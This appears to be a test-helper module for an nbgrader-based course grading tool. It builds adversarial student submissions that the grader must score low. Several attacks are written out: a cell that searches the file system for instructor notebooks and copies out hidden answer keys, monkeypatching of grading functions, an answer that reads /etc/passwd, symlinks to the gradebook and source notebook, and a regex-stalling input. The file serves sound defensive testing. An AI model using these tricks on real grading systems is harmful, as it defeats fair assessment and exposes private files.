"""Submissions a dishonest or clumsy student could make, and the helpers that build every submission.

Each attack is a real notebook (and files) in the session course's
``submitted/`` folder, with the score it must get: at most 10% of the item's
points, or the honest score of the answer it contains. ``ex09-probe`` is an
extra assignment with an instructor's own code test, so a kernel must run;
its probe cell records what that kernel could read and write.
"""

from __future__ import annotations

import json
import os
import re
import secrets
import subprocess
import sys
from pathlib import Path

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output, new_raw_cell

from medialit.core.sidecar import Saved
from medialit.core.spans import Span
from medialit.exercises.grading import item

REPO = Path(__file__).resolve().parents[2]
EX01 = "ex01-attribution"
PROBE = "ex09-probe"
GIANT = -1000, 1_000_000
GRADER_SECRET = "MEDIALIT_TEST_GRADER_SECRET"


def nb_path(folder: Path, assignment: str) -> Path:
    return folder / assignment / f"{assignment}.ipynb"


GRADER_NOTE = "For the grader (not in feedback)"
"""The heading of the model answer and rubric the formgrader shows below a written answer (``NotesForTheGrader``)."""


def formgrader_page(root: Path, notebook: Path, assignment: str) -> str:
    """The formgrader's page of a graded ``notebook`` of the course at ``root``, made as nbgrader's
    FormgradeExtension makes it: the course's config with the ``formgrade`` template, under which alone
    ``NotesForTheGrader`` adds the model answer and rubric from ``source/`` (never written into ``autograded/``)."""
    from nbconvert.exporters import HTMLExporter
    from nbgrader.server_extensions.formgrader import handlers

    from medialit.setup.doctor_hub import nbgrader_config

    config = nbgrader_config(root, strict=True)[0]  # what the formgrader's exporter is made with
    config.HTMLExporter.template_name = "formgrade"  # as nbgrader's FormgradeExtension sets it
    config.HTMLExporter.extra_template_basedirs = [handlers.template_path]
    resources = {"assignment_id": assignment, "notebook_id": notebook.stem, "index": 0, "total": 1, "base_url": "",
                 "student": "s"}  # fmt: skip
    return HTMLExporter(config=config).from_filename(str(notebook), resources=resources)[0]


class SmallCourse:
    """A copy of a released course, with helpers to submit as ``nbgrader collect`` leaves submissions."""

    stamp = "2026-11-24 08:00:00.000000 UTC"
    """The hand-in time written with each submission unless one is given."""

    def __init__(self, root: Path):
        self.root = root

    def source(self, assignment: str) -> nbformat.NotebookNode:
        return nbformat.read(nb_path(self.root / "source", assignment), as_version=4)

    def release(self, assignment: str) -> nbformat.NotebookNode:
        return nbformat.read(nb_path(self.root / "release", assignment), as_version=4)

    def submit(self, student: str, assignment: str, nb: nbformat.NotebookNode, stamp: str | None = None) -> None:
        folder = self.root / "submitted" / student / assignment
        folder.mkdir(parents=True, exist_ok=True)
        nbformat.write(nb, nb_path(self.root / "submitted" / student, assignment))
        (folder / "timestamp.txt").write_text(stamp or self.stamp, encoding="utf-8")
        (folder / "submission_secret.txt").write_text(secrets.token_hex(16), encoding="utf-8")


def cell(nb: nbformat.NotebookNode, grade_id: str) -> nbformat.NotebookNode:
    (found,) = [c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id]
    return found


def solution_source(nb: nbformat.NotebookNode, grade_id: str) -> str:
    """The model answer as a student would type it (markers removed)."""
    text = cell(nb, grade_id).source
    return "\n".join(line for line in text.splitlines() if "### " not in line)


def solved(course_, assignment: str) -> nbformat.NotebookNode:
    """The released notebook with every answer cell holding the model answer as a student would type it.

    (The source notebook itself is not a submission: it holds nbgrader's markers, and ``medialit course
    grade`` refuses it; see ``link_to_source``.)
    """
    return typed(course_.source(assignment), course_.release(assignment))


def typed(source: nbformat.NotebookNode, release: nbformat.NotebookNode) -> nbformat.NotebookNode:
    """A copy of ``release`` whose answer cells hold ``source``'s model answers without the solution markers."""
    nb = nbformat.from_dict(json.loads(json.dumps(release)))
    for c in nb.cells:
        meta = c.metadata.get("nbgrader", {})
        if meta.get("solution"):
            text = cell(source, meta["grade_id"]).source
            c.source = "\n".join(
                x for x in text.splitlines() if "### BEGIN SOLUTION" not in x and "### END SOLUTION" not in x
            )
    return nb


def answer_cells(course_, assignment: str, **sources: str) -> nbformat.NotebookNode:
    """The released notebook with the given answer cells' sources (by grade id) replaced."""
    nb = course_.release(assignment)
    for grade_id, text in sources.items():
        cell(nb, grade_id).source = text
    return nb


def sidecar_text(item_id: str, spans: tuple[Span, ...]) -> str:
    """A highlights file (``medialit.core.sidecar`` format) with the given spans."""
    it = item(item_id)
    article = it.load()
    when, who = "2026-11-27T08:00:00Z", "student"
    return json.dumps(Saved(it.article, article.sha256, "spans", spans, saved_at=when, saved_by=who).to_json())


def key_sidecar(item_id: str) -> dict:
    """A highlights file holding exactly the key's spans."""
    key = json.loads((REPO / "course" / "keys" / f"{item_id}.json").read_text(encoding="utf-8"))
    spans = tuple(Span(k["start"], k["end"], k["label"]) for k in key["marks"])
    return json.loads(sidecar_text(item_id, spans))


# ---------------------------------------------------------------- attacks on ex01 (graded as data)

LIMIT = {
    "ex01-q1-test": 0.3,
    "ex01-q2-test": 0.2,
    "ex01-q3-test": 0.3,
    "ex01-q4-test": 0.2,
}  # 10% of each item's points
FAILS_ALONE = ["answer-made-graded", "hand-edited-metadata", "invalid-notebook", "link-to-source", "source-copy"]
"""The ex01 hand-ins that fail alone (each with its one line) while the rest of the class is graded."""

MALFORMED = {
    "none-in-tuple": "[('Støre', None, 1)]",
    "ints": "[1, 2, 3]",
    "dict-of-ints": "{'Støre': 3}",
    "bytes": "[(b'Stoere', 'source')]",
    "bools": "[True, False]",
    "short-tuple": "[('Støre',)]",
    "long-tuple": "[('Støre', 'source', 1, 2, 3)]",
    "nested": "[[[['Støre']]], {'a': {'b': None}}]",
    "huge-list": "[" + ", ".join(["('Støre', 'source')"] * 3000) + "]",
    "none-entries": "[None, None]",
    "zero-occurrence": "[('Støre', 'source', 0)]",
    "call": "[open('/etc/passwd').read()]",
    "lone-surrogate": "[('\\ud800', 'source'), ('Støre', '\\udfff')]",  # valid Python; no file can hold it
}


def giant_literal(labels: tuple[str, ...]) -> str:
    marks = [{"start": GIANT[0], "end": GIANT[1], "label": label} for label in labels for _ in range(6)]
    return repr(marks)


def ex01_attacks(c) -> None:
    """Every attack on ex01 with the score it may get (``c.expected``) or the limit it must stay under."""
    src = c.source(EX01)
    q = {i: solution_source(src, f"ex01-q{i}-answer") for i in (1, 2, 3, 4)}
    rest = {"ex01-q2-answer": q[2], "ex01-q3-answer": q[3], "ex01-q4-answer": q[4]}
    c.limits = {}

    giant = {
        "ex01-q1-answer": f"answer_q1 = {giant_literal(('source', 'cue'))}",
        "ex01-q2-answer": f"answer_q2 = {giant_literal(('Jonas Gahr Støre',))}",
        "ex01-q3-answer": f"answer_q3 = {giant_literal(('named', 'vague', 'anonymous'))}",
        "ex01-q4-answer": f"answer_q4 = {giant_literal(('direct', 'indirect', 'mixed', 'according_to'))}",
    }
    c.submit("giant-literal", EX01, answer_cells(c, EX01, **giant))
    c.limits["giant-literal"] = dict(LIMIT)

    files = {}
    for item_id, labels in {
        "ex01-q1": ("source", "cue"),
        "ex01-q3": ("named", "vague", "anonymous"),
        "ex01-q4": ("direct", "indirect", "mixed", "according_to"),
    }.items():
        whole = (0, len(item(item_id).load().body))
        files[f"{item_id}.highlights.json"] = sidecar_text(item_id, tuple(Span(*whole, x) for x in labels * 6))
    c.submit("giant-sidecar", EX01, answer_cells(c, EX01), files)
    c.limits["giant-sidecar"] = dict(LIMIT)

    thief = (  # reads every KEY = {...} from any source notebook it can find, as the hidden cells hold them
        "import ast, glob, json, pathlib\n"
        "for path in glob.glob('../../../source/*/*.ipynb') + glob.glob('/**/source/*/*.ipynb', recursive=True):\n"
        "    for code in json.loads(pathlib.Path(path).read_text())['cells']:\n"
        "        if code['cell_type'] != 'code' or 'KEY = ' not in ''.join(code['source']):\n"
        "            continue\n"
        "        for node in ast.parse(''.join(code['source'])).body:\n"
        "            if isinstance(node, ast.Assign) and getattr(node.targets[0], 'id', '') == 'KEY':\n"
        "                marks = ast.literal_eval(node.value)['marks']\n"
        "                spans = [{k: m[k] for k in ('start', 'end', 'label')} for m in marks]\n"
        "                saved = {'format': 'medialit-highlights', 'spans': spans}\n"
        "                pathlib.Path('ex01-q1.highlights.json').write_text(json.dumps(saved))\n"
        f"                pathlib.Path({str(c.root / 'submitted' / 'key-thief' / EX01)!r}, "
        "'ex01-q1.highlights.json').write_text(json.dumps(saved))\n"
        "answer_q1 = None\n"
    )
    c.submit("key-thief", EX01, answer_cells(c, EX01, **{"ex01-q1-answer": thief}, **rest))
    c.expected["key-thief"] = {"ex01-q1-test": 0.0, "ex01-q2-test": 2.0, "ex01-q3-test": 3.0, "ex01-q4-test": 2.0}

    patched = (
        "import subprocess, medialit.exercises.grading as g, medialit.exercises.scoring as s\n"
        "subprocess.run = lambda *a, **k: type('R', (), {'stdout': '{\"points\": 3}', 'returncode': 0})()\n"
        "g.score_item = lambda *a, **k: None\ns.score = lambda *a, **k: None\n"
        "answer_q1 = [('He', 'source')]\n"
    )
    c.submit("patched-subprocess", EX01, answer_cells(c, EX01, **{"ex01-q1-answer": patched}, **rest))
    c.expected["patched-subprocess"] = {
        "ex01-q1-test": 0.33,
        "ex01-q2-test": 2.0,
        "ex01-q3-test": 3.0,
        "ex01-q4-test": 2.0,
    }

    for name, value in MALFORMED.items():
        sources = {"ex01-q1-answer": f"answer_q1 = {value}", "ex01-q2-answer": f"answer_q2 = {value}"}
        sources["ex01-q3-answer"], sources["ex01-q4-answer"] = q[3], q[4]
        c.submit(f"malformed-{name}", EX01, answer_cells(c, EX01, **sources))
        c.expected[f"malformed-{name}"] = {
            "ex01-q1-test": 0.0,
            "ex01-q2-test": 0.0,
            "ex01-q3-test": 3.0,
            "ex01-q4-test": 2.0,
        }

    nb = answer_cells(c, EX01, **{"ex01-q1-answer": q[1]}, **rest)
    nb.cells = [x for x in nb.cells if x.metadata.get("nbgrader", {}).get("grade_id") != "ex01-q1-test"]
    cell(nb, "ex01-q2-test").source = "2.0"
    c.submit("edited-and-deleted-test-cells", EX01, nb)  # honest answers: the restored tests give full marks
    links_and_copies(c, rest, q[1])
    answered = {"ex01-q1-answer": q[1], "ex01-q3-answer": q[3], "ex01-q4-answer": q[4]}  # q2: the highlights
    c.submit("speaker-stall", EX01, answer_cells(c, EX01, **answered), {"ex01-q2.highlights.json": stalling_sidecar()})
    c.expected["speaker-stall"] = {"ex01-q1-test": 3.0, "ex01-q2-test": 0.0, "ex01-q3-test": 3.0, "ex01-q4-test": 2.0}
    nb = solved(c, EX01)  # a scratch cell below the answers Python cannot parse: too deep (a sum of 20,000 terms)
    nb.cells.append(new_code_cell(DEEP_SCRATCH))
    c.submit("deep-scratch-cell", EX01, nb)
    c.expected["deep-scratch-cell"] = dict(c.expected["solution"])
    deep = {"ex01-q1-answer": q[1] + "\n" + DEEP_SCRATCH.splitlines()[-1]}
    c.submit("deep-answer-cell", EX01, answer_cells(c, EX01, **deep, **rest))
    c.expected["deep-answer-cell"] = c.expected["solution"] | {"ex01-q1-test": 0.0}
    padded = json.dumps(key_sidecar("ex01-q1") | {"notes": "x" * 2_500_000})  # a highlights file over 2 MB
    c.submit("big-sidecar-beside-a-list", EX01, solved(c, EX01), {"ex01-q1.highlights.json": padded})
    c.expected["big-sidecar-beside-a-list"] = dict(c.expected["solution"])  # the list in the cell is the answer
    c.submit("big-sidecar", EX01, answer_cells(c, EX01, **rest), {"ex01-q1.highlights.json": padded})
    c.expected["big-sidecar"] = c.expected["solution"] | {"ex01-q1-test": 0.0}
    c.expected["edited-and-deleted-test-cells"] = {
        "ex01-q1-test": 3.0,
        "ex01-q2-test": 2.0,
        "ex01-q3-test": 3.0,
        "ex01-q4-test": 2.0,
    }


DEEP_SCRATCH = "# my evaluation: how many sources in all?\ntotal = 1" + " + 1" * 20_000
"""A cell Python's parser gives up on (RecursionError; the kernel cannot run it either) that says "eval" (in
"evaluation"): the grader parsed it for every item, and the RecursionError scored every item 0, "could not be
scored"."""


SLOW_CELL = "# answer_q1 answer_q2 answer_q3 answer_q4\n" + "x = [1, 2, 3]\n" * 7000
"""A cell of 98,000 characters naming every answer variable: the grader parses every such cell for every item, about
a second each, so a notebook of many is slow to grade (nbgrader's exchange takes up to 100 MB)."""


def slow_to_grade(course_, cells: int = 40) -> nbformat.NotebookNode:
    """The solution followed by ``cells`` copies of ``SLOW_CELL``."""
    nb = solved(course_, EX01)
    nb.cells += [new_code_cell(SLOW_CELL) for _ in range(cells)]
    return nb


STALL_NAME = "a" * 1_900_000
"""A speaker "name" of 1.9 MB: the highlights file stays under the grader's 2 MB cap."""


def stalling_sidecar(name: str = STALL_NAME) -> str:
    """ex01-q2's highlights: the key's first required source linked to its own cue, the speaker typed as ``name``.

    The speaker judge looked for a possessive in the name with a pattern tried at every letter: n² steps, 29 s for
    40,000 letters, about a day for 1.9 MB. A job grades its students one after another, so its classmates waited
    until the job's time ran out (a minute per student in the job), and `medialit course report` never finished.
    """
    it = item("ex01-q2")
    key = json.loads((REPO / "course" / "keys" / "ex01-q2.json").read_text(encoding="utf-8"))
    mark = next(m for m in key["marks"] if not m.get("optional") and m.get("cue"))
    source, cue = Span(mark["start"], mark["end"], "source"), Span(mark["cue"]["start"], mark["cue"]["end"], "cue")
    link = {"source_start": source.start, "source_end": source.end, "source_label": "source"}
    link |= {"cue_start": cue.start, "cue_end": cue.end, "cue_label": "cue", "speaker": name, "kind": "indirect"}
    saved = json.loads(sidecar_text("ex01-q2", (source, cue)))
    assert saved["body_sha256"] == it.load().sha256
    return json.dumps(saved | {"links": [link]})


def links_and_copies(c, rest: dict[str, str], q1: str) -> None:
    """Links in the submission's own folder (placed by ``cp -a``, ``rsync -a`` or ``tar``), and copied cells.

    Links: the q1 highlights to a classmate's file (earned their marks), a note to the source
    notebook, the gradebook, and the q3 highlights relative to the private copy's ``source/``. nbgrader
    copies a link as its target into ``autograded/``, and ``generate_feedback`` into the feedback:
    the student got the source notebook (solutions, KEYs) and the gradebook back. Copies: a graded
    cell copied in JupyterLab keeps its grade id; the submission failed with 0 ("nbgrader update .").
    """
    folder = c.submit("linked-files", EX01, answer_cells(c, EX01, **rest))
    links = {
        "ex01-q1.highlights.json": c.root / "submitted" / "highlighter" / EX01 / "ex01-q1.highlights.json",
        "notes.txt": nb_path(c.root / "source", EX01),
        "gb.db": c.root / "gradebook.db",
        "ex01-q3.highlights.json": Path("..", "..", "..", "source", EX01, f"{EX01}.ipynb"),
    }
    for name, target in links.items():
        (folder / name).symlink_to(target)
    c.expected["linked-files"] = {"ex01-q1-test": 0.0, "ex01-q2-test": 2.0, "ex01-q3-test": 3.0, "ex01-q4-test": 2.0}

    nb = answer_cells(c, EX01, **{"ex01-q1-answer": q1}, **rest)
    for grade_id in ("ex01-q1-answer", "ex01-q2-test"):  # copy, paste below, the first copy's answer emptied
        at = nb.cells.index(cell(nb, grade_id))
        nb.cells.insert(at, nbformat.from_dict(json.loads(json.dumps(nb.cells[at]))))
        if grade_id.endswith("answer"):
            nb.cells[at].source = "answer_q1 = []"
    c.submit("copied-cells", EX01, nb)
    c.expected["copied-cells"] = {"ex01-q1-test": 3.0, "ex01-q2-test": 2.0, "ex01-q3-test": 3.0, "ex01-q4-test": 2.0}
    structure_changes(c, rest, q1)

    nb = answer_cells(c, EX01, **{"ex01-q1-answer": q1}, **rest)  # metadata edited (nbgrader's cell toolbar)
    for i in (1, 2, 3, 4):
        cell(nb, f"ex01-q{i}-test").metadata["nbgrader"] |= {"points": 100, "checksum": "0" * 32}
    c.submit("edited-points", EX01, nb)
    c.expected["edited-points"] = dict(c.expected["copied-cells"])
    cell(nb, "ex01-q1-answer").metadata["nbgrader"] |= {"grade": True, "points": 50}
    c.submit("answer-made-graded", EX01, nb)  # a graded cell the assignment does not have: fails alone, says which
    c.expected["answer-made-graded"] = {f"ex01-q{i}-test": 0.0 for i in (1, 2, 3, 4)}


def structure_changes(c, rest: dict[str, str], q1: str) -> None:
    """The notebook's structure changed as JupyterLab lets a student change it; each gets what the hidden test saw.

    ``copy-at-end``: the answer cell copied to the end of the notebook (Ctrl+C, a click below, Ctrl+V) still holding
    the released ``answer_q1 = None``. The copy was graded in place of the list above it: 0 points, "no saved
    highlights ... and no answer in the cell"; then (attack20) 0 as a cell that writes the answer again. It runs after
    the test, which never sees it: the list above is graded, as nbgrader grades it, and a line names the copy
    (attack22). ``copy-changed-below``: the copy at the end holds a changed list (the student tried one label
    otherwise): the same. ``copy-at-end-same``: the copy pasted after the answer was
    written, the same list twice, is that list. The others were already graded as written: the answer cell typed
    markdown, the test cell typed markdown and an answer cell raw (nbgrader types them back), every cell with the
    same nbformat 4.5 cell id, a notebook of nbformat 4.4 (no cell ids) as an older JupyterLab saves it, and the
    ``locked`` flag and checksum of the answer cell and a test cell edited. ``hand-edited-metadata``: a cell's
    nbgrader metadata a list (no JupyterLab writes it) failed with "AttributeError: 'list' object has no attribute
    'get'"; it fails saying which cell and why.
    """
    full = {"ex01-q1-answer": q1, **rest}
    stub = nbformat.from_dict(json.loads(json.dumps(cell(c.release(EX01), "ex01-q1-answer"))))
    nb = answer_cells(c, EX01, **full)
    nb.cells.append(stub)
    c.submit("copy-at-end", EX01, nb)
    nb = answer_cells(c, EX01, **full)
    changed = nbformat.from_dict(json.loads(json.dumps(cell(nb, "ex01-q1-answer"))))
    changed.source = changed.source.replace("('believes', 'cue')", "('believes', 'source')")
    nb.cells.append(changed)
    c.submit("copy-changed-below", EX01, nb)
    nb = answer_cells(c, EX01, **full)
    nb.cells.append(nbformat.from_dict(json.loads(json.dumps(cell(nb, "ex01-q1-answer")))))
    c.submit("copy-at-end-same", EX01, nb)

    def retyped(x, to):
        x.cell_type = to
        x.pop("outputs", None)
        x.pop("execution_count", None)

    nb = answer_cells(c, EX01, **full)
    retyped(cell(nb, "ex01-q1-answer"), "markdown")
    retyped(cell(nb, "ex01-q2-test"), "markdown")
    retyped(cell(nb, "ex01-q3-answer"), "raw")
    c.submit("retyped-cells", EX01, nb)
    nb = answer_cells(c, EX01, **full)
    cell(nb, "ex01-q1-answer").metadata["nbgrader"] |= {"locked": True, "checksum": "f" * 32}
    cell(nb, "ex01-q2-test").metadata["nbgrader"] |= {"locked": False}
    c.submit("edited-locks", EX01, nb)
    for student, minor in (("same-cell-ids", 5), ("nbformat-4.4", 4)):
        saved = json.loads(json.dumps(answer_cells(c, EX01, **full)))
        saved["nbformat_minor"] = minor
        for x in saved["cells"]:
            x.pop("id", None)
            x.update({"id": "same"} if minor == 5 else {})
        c.submit(student, EX01, json.dumps(saved))  # as saved: nbformat.write would mend the ids
    saved = json.loads(json.dumps(answer_cells(c, EX01, **full)))  # a cell's nbgrader metadata edited by hand
    saved["cells"][-1]["metadata"]["nbgrader"] = ["grade_id", "ex01-q1-test"]
    c.submit("hand-edited-metadata", EX01, json.dumps(saved))
    c.expected["hand-edited-metadata"] = {f"ex01-q{i}-test": 0.0 for i in (1, 2, 3, 4)}
    for student in ("copy-at-end", "copy-changed-below", "copy-at-end-same", "retyped-cells", "edited-locks"):
        c.expected[student] = {"ex01-q1-test": 3.0, "ex01-q2-test": 2.0, "ex01-q3-test": 3.0, "ex01-q4-test": 2.0}
    for student in ("same-cell-ids", "nbformat-4.4"):
        c.expected[student] = {"ex01-q1-test": 3.0, "ex01-q2-test": 2.0, "ex01-q3-test": 3.0, "ex01-q4-test": 2.0}


def link_to_source(c, assignment: str, student: str = "link-to-source") -> None:
    """A link to the instructor's source notebook left in the exchange, brought in by the real ``nbgrader collect``;
    and a named pipe in another student's folder there.

    Students may write into the exchange's inbound folder (that is how ``nbgrader submit`` works);
    nbgrader's ``collect`` runs as the grader and follows links, so the submission became the source
    notebook with its solutions and hidden keys: graded as data it earned full marks. The course's
    collector (``medialit.instructor.exchange``) leaves links out; and should a copy of the source
    notebook arrive another way (``source-copy``), ``course grade`` refuses it by its markers.
    """
    env = {**os.environ, "MEDIALIT_EXCHANGE": str(c.root / "exchange")}
    nbgrader = [sys.executable, "-m", "nbgrader"]
    run = lambda *args: subprocess.run([*nbgrader, *args], cwd=c.root, env=env, check=True, capture_output=True)  # noqa: E731
    run("release_assignment", assignment, "--force")
    stamp = "2026-11-27 08:00:00.000000 UTC"
    inbound = c.root / "exchange" / "medialit" / "inbound" / f"{student}+{assignment}+{stamp}+{secrets.token_hex(4)}"
    inbound.mkdir(parents=True)
    (inbound / f"{assignment}.ipynb").symlink_to(nb_path(c.root / "source", assignment))
    (inbound / "timestamp.txt").write_text(stamp, encoding="utf-8")
    (inbound / "submission_secret.txt").write_text(secrets.token_hex(16), encoding="utf-8")
    piped = inbound.with_name(inbound.name.replace(student, "fifo-in-exchange"))  # a named pipe beside honest work
    piped.mkdir()
    nbformat.write(solved(c, assignment), piped / f"{assignment}.ipynb")
    for name in ("timestamp.txt", "submission_secret.txt"):
        (piped / name).write_text((inbound / name).read_text(encoding="utf-8"), encoding="utf-8")
    os.mkfifo(piped / "ex01-q1.highlights.json")  # copying it failed and stopped the collect for everyone after
    collected = run("collect", assignment)
    assert "Left out" in collected.stderr.decode() and not nb_path(c.root / "submitted" / student, assignment).exists()
    assert sorted(p.name for p in (c.root / "submitted" / "fifo-in-exchange" / assignment).iterdir()) == [
        f"{assignment}.ipynb",
        "submission_secret.txt",
        "timestamp.txt",
    ]
    c.expected["fifo-in-exchange"] = {
        "ex01-q1-test": 3.0,
        "ex01-q2-test": 2.0,
        "ex01-q3-test": 3.0,
        "ex01-q4-test": 2.0,
    }
    c.expected[student] = {f"ex01-q{i}-test": 0.0 for i in (1, 2, 3, 4)}
    c.submit("source-copy", assignment, c.source(assignment))
    c.expected["source-copy"] = dict(c.expected[student])


# ---------------------------------------------------------------- ex02: sentence items marked by the paragraph

EX02 = "ex02-unsupported"
ITEMS_OF_EX02 = ("ex02-q1", "ex02-q2")  # its sentence items


def paragraphs(item_id: str) -> list[tuple[int, int]]:
    """The item's paragraphs (lines of text), a blind student's marks: several sentences each, no reading needed."""
    it = item(item_id)
    start, end = it.bounds()
    return [(start + m.start(), start + m.end()) for m in re.finditer(r"[^\n]*\S[^\n]*", it.load().body[start:end])]


def ex02_submissions(c) -> None:
    """attack19: every paragraph of each sentence item with one reason, typed (q2) and saved by a highlighter in
    sentence mode (q1). A mark over a paragraph found its longest sentence for one extra's cost: q2 earned 0.75."""
    marks = {i: [{"start": s, "end": e, "label": "evaluation"} for s, e in paragraphs(i)] for i in ITEMS_OF_EX02}
    saved = json.loads(sidecar_text("ex02-q1", ())) | {"mode": "sentences", "sentences": marks["ex02-q1"]}
    nb = answer_cells(c, EX02, **{"ex02-q2-answer": f"answer_q2 = {marks['ex02-q2']!r}"})
    c.submit("every-paragraph", EX02, nb, {"ex02-q1.highlights.json": json.dumps(saved)})


# ---------------------------------------------------------------- ex03: nbgrader's markers typed by a student

EX03 = "ex03-framing"
TYPED_MARKERS = "typed-markers"


def ex03_submissions(c) -> None:
    """attack23: the model answers, with nbgrader's solution markers typed around the written answer and around an
    answer list, as other nbgrader courses' notebooks show them. The whole hand-in was refused as "a copy of the source
    notebook": 0 on every item, and no autograded notebook for the grader to mark the written answer in."""
    nb = solved(c, EX03)
    written = cell(nb, "ex03-q2-answer")
    written.source = f"### BEGIN SOLUTION\n{written.source}\n### END SOLUTION"
    listed = cell(nb, "ex03-q1-answer")
    listed.source = f"### BEGIN SOLUTION\n{listed.source}\n### END SOLUTION"
    c.submit(TYPED_MARKERS, EX03, nb)


# ---------------------------------------------------------------- ex05: clumsy students, sidecars, probes

EX05 = "ex05-transfer"
EX05_PARTIAL = {  # conftest's `partial` student: one opinion sentence (q1) and two provenance signals (q8)
    "ex05-q1-answer": "answer_q1 = [('The project is a bold step towards a greener future.', 'opinion')]",
    "ex05-q8-answer": "answer_q8 = [('Monday 22 September', 'date'), ('owls in the moss', 'translation')]",
}
AS_PARTIAL = ["reordered-cells", "widget-state", "stored-output", "cell-and-sidecar", "pasted-picture"]
"""ex05 submissions holding `partial`'s answers, clumsily saved: each must score what `partial` scores."""


def _q1_sidecar(sha: str | None = None) -> str:
    """ex05-q1's highlights file holding `partial`'s one opinion sentence (``sha``: saved for another text)."""
    it = item("ex05-q1")
    body = it.load().body
    start = body.index("The project is a bold step")
    saved = json.loads(sidecar_text("ex05-q1", (Span(start, body.index(".", start) + 1, "opinion"),)))
    return json.dumps(saved | ({"body_sha256": sha} if sha else {}))


def ex05_submissions(c) -> None:
    """Clumsy saves of an honest answer, sidecars in the wrong place, and a probe reading the key off feedback."""
    partial = lambda: answer_cells(c, EX05, **EX05_PARTIAL)  # noqa: E731
    c.submit("empty-notebook", EX05, new_notebook())
    nb = partial()
    nb.cells.reverse()
    c.submit("reordered-cells", EX05, nb)
    nb = partial()  # as JupyterLab saves it with the highlighters shown: widget state and views
    state = {"model_name": "LayoutModel", "model_module": "@jupyter-widgets/base", "model_module_version": "2.0.0"}
    nb.metadata["widgets"] = {
        "application/vnd.jupyter.widget-state+json": {"state": {"m1": state | {"state": {}}}, "version_major": 2}
    }
    view = {"application/vnd.jupyter.widget-view+json": {"model_id": "m1", "version_major": 2, "version_minor": 0}}
    cell(nb, "ex05-q1-show").outputs = [new_output("display_data", data=view | {"text/plain": "…"})]
    c.submit("widget-state", EX05, nb)
    nb = partial()  # a saved output of 5 MB (a print left in a loop): autograded and feedback must not carry it
    cell(nb, "ex05-q1-answer").outputs = [new_output("stream", name="stdout", text="y" * 5_000_000)]
    c.submit("stored-output", EX05, nb)
    nb = partial()  # a picture pasted into a markdown cell (JupyterLab saves it as an attachment): the whole hand-in
    note = new_markdown_cell("The page I checked:\n\n![image.png](attachment:image.png)")  # failed, 0 (attack22)
    note["attachments"] = {"image.png": {"image/png": "iVBORw0KGgo="}}
    nb.cells.insert(1, note)
    c.submit("pasted-picture", EX05, nb)
    raw = nbformat.writes(partial()).replace("greener future.", "greener future ø.")  # saved by another editor
    nb_path(c.submit("not-utf8", EX05, partial()).parent, EX05).write_bytes(raw.encode().replace("ø".encode(), b"\xf8"))
    c.submit("cell-and-sidecar", EX05, partial(), {"ex05-q1.highlights.json": _q1_sidecar()})  # counted once
    appended = EX05_PARTIAL["ex05-q1-answer"].replace("answer_q1 = [", "answer_q1 = []\nanswer_q1.append(")[:-1] + ")"
    c.submit("appended", EX05, answer_cells(c, EX05, **(EX05_PARTIAL | {"ex05-q1-answer": appended})))
    c.submit("stale-sidecar", EX05, c.release(EX05), {"ex05-q1.highlights.json": _q1_sidecar("0" * 64)})
    copies = {f"ex05-q{i}.highlights.json": _q1_sidecar() for i in range(1, 8)}  # q1's file under every name
    c.submit("one-sidecar-everywhere", EX05, c.release(EX05), copies)
    c.submit("feedback-probe", EX05, answer_cells(c, EX05, **feedback_probe()))


def feedback_probe() -> dict[str, str]:
    """Answers built to read the key off feedback: every line of ex05-q6 as no_source (which sentences are
    keyed), every date of ex05-q8 with every label (the dates keyed, and by elimination their label)."""
    q6, q8 = item("ex05-q6"), item("ex05-q8")
    (s6, e6), (s8, e8) = q6.bounds(), q8.bounds()
    lines = [(s6 + m.start(), s6 + m.end()) for m in re.finditer(r"[^\n]+", q6.load().body[s6:e6])]
    dates = r"\b(?:(?:Mon|Tues|Wednes|Thurs|Fri|Satur|Sun)day )?\d{1,2} [A-Z][a-z]+(?: \d{4})?"
    found = [(s8 + m.start(), s8 + m.end()) for m in re.finditer(dates, q8.load().body[s8:e8])]
    labels = ("bio", "scraped", "translation", "date")
    q6_marks = [{"start": s, "end": e, "label": "no_source"} for s, e in lines]
    q8_marks = [{"start": s, "end": e, "label": label} for s, e in found for label in labels]
    assert len(lines) > 5 and len(found) > 1
    return {"ex05-q6-answer": f"answer_q6 = {q6_marks!r}", "ex05-q8-answer": f"answer_q8 = {q8_marks!r}"}


# ---------------------------------------------------------------- ex09-probe: a kernel must run


def _meta(grade_id: str, *, grade: bool = False, solution: bool = False, points: float = 0) -> dict:
    meta = {"grade": grade, "grade_id": grade_id, "locked": not solution, "schema_version": 3, "solution": solution}
    if grade:
        meta["points"] = points
    return {"nbgrader": meta}


HIDDEN_MARK = "hidden-part-of-the-probe-test"
HIDDEN_TEST = (
    "assert answer is not None, 'answer the question'\n### BEGIN HIDDEN TESTS\n"
    f"expected = 6 * 7  # {HIDDEN_MARK}\nassert answer == expected, 'answer must be 42'\n### END HIDDEN TESTS"
)
"""The instructor's code test: a visible part and a hidden part whose value students must not see."""


def add_probe_assignment(root: Path) -> None:
    """An assignment with an instructor's own code test (needs a kernel) beside one medialit item."""
    ex01 = nbformat.read(nb_path(root / "source", EX01), as_version=4)
    answer = "answer = None\n### BEGIN SOLUTION\nanswer = 42\n### END SOLUTION"
    cells = [
        new_markdown_cell("# Probe: a code test and a medialit item"),
        new_code_cell("from medialit.exercises.grading import check, grade, item, show", metadata=_meta("setup")),
        new_code_cell(answer, metadata=_meta("probe-answer", solution=True)),
        new_code_cell(HIDDEN_TEST, metadata=_meta("probe-test", grade=True, points=1)),
        new_code_cell(cell(ex01, "ex01-q1-answer").source, metadata=_meta("ex01-q1-answer", solution=True)),
        new_code_cell(cell(ex01, "ex01-q1-test").source, metadata=_meta("ex01-q1-test", grade=True, points=3)),
    ]
    nb = new_notebook(cells=cells, metadata=ex01.metadata)
    (root / "source" / PROBE).mkdir()
    nbformat.write(nb, nb_path(root / "source", PROBE))


def new_course(
    root: Path, *released: str, timeout: int | None = None, probe: bool = False, solutions: Path = REPO / "solutions"
) -> SmallCourse:
    """A course made at ``root`` by ``course.init`` from ``solutions`` (default: the kit's exercises), a kernel
    given ``timeout`` seconds a cell (None: the kit's default); the probe assignment is added when ``probe`` is set
    (its code test needs a kernel), and the ``released`` assignments are released."""
    from medialit.instructor import course  # after the nbgrader_env fixture, as the tests import it

    course.init(root, solutions, **({} if timeout is None else {"timeout": timeout}))
    if probe:
        add_probe_assignment(root)
    for assignment in released:
        course.release(root, assignment)
    return SmallCourse(root)


